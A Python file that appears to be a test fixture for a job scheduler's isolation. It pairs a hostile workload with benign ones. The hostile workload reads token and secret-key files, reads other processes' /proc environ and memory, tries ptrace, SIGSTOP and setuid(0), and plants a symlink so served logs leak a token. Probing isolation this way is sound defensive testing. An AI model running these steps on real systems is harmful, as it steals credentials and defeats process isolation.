"""What a workload tries that wants to be the operator; and, beside it, work that is as it should be."""

import ctypes
import json
import os
import signal
import sys
from pathlib import Path

PTRACE_ATTACH = 16


def tried(act, *words):
    """What came of it: the error's word, or what was got."""
    try:
        return f"got {str(act(*words))[:60]}"
    except OSError as error:
        return error.strerror


def attach(pid):
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.ptrace(PTRACE_ATTACH, pid, None, None) < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))


def steal(home, controller, bridge):
    home = Path(home)
    found = {
        f"read {name}": tried((home / name).read_bytes) for name in ("token", "secret-key", "state.sqlite", "logs")
    }
    found["list the home"] = tried(lambda: list(home.iterdir()))
    found["write into the home"] = tried((home / "new").touch)
    for who, pid in (("controller", controller), ("bridge", bridge)):
        place = Path("/proc", pid)
        found[f"variables of the {who}"] = tried((place / "environ").read_bytes)
        found[f"memory of the {who}"] = tried((place / "mem").read_bytes)
        found[f"files of the {who}"] = tried(lambda place=place: list((place / "fd").iterdir()))
        found[f"pipe of the {who}"] = tried((place / "fd" / "0").open)
        found[f"trace the {who}"] = tried(attach, int(pid))
    found["stop the controller"] = tried(os.kill, int(controller), signal.SIGSTOP)
    found["become root"] = tried(os.setuid, 0)
    # What the controller reads out to whoever asks for the log.
    link = Path(
        os.environ["LLMSCHED_STORAGE"], os.environ["LLMSCHED_GANG"], os.environ["LLMSCHED_ATTEMPT"], "logs/7.log"
    )
    link.symlink_to(home / "token")
    return found


def variables():
    """Of every process that lets us look, this one among them: {name: value}."""
    found = {}
    for file in Path("/proc").glob("[0-9]*/environ"):
        try:
            items = file.read_text(errors="replace").split("\0")
        except OSError:
            continue
        found |= dict(item.split("=", 1) for item in items if "=" in item)
    return found


if __name__ == "__main__":
    seen = variables()
    print(json.dumps({"uid": os.getuid(), "tried": steal(*sys.argv[1:4])}))
    print(
        json.dumps({"shared": seen.get("SHARED"), "told": sorted(n for n, text in seen.items() if sys.argv[4] in text)})
    )


def loop():
    from llmsched.runtime import artifact, progress

    print("trains as", os.getuid())
    progress.report(step=1, total_steps=1)
    artifact.save(lambda folder: (folder / "made").write_text("made"))


class Echo:
    def __call__(self, body):
        return {"said": body["name"], "uid": os.getuid()}
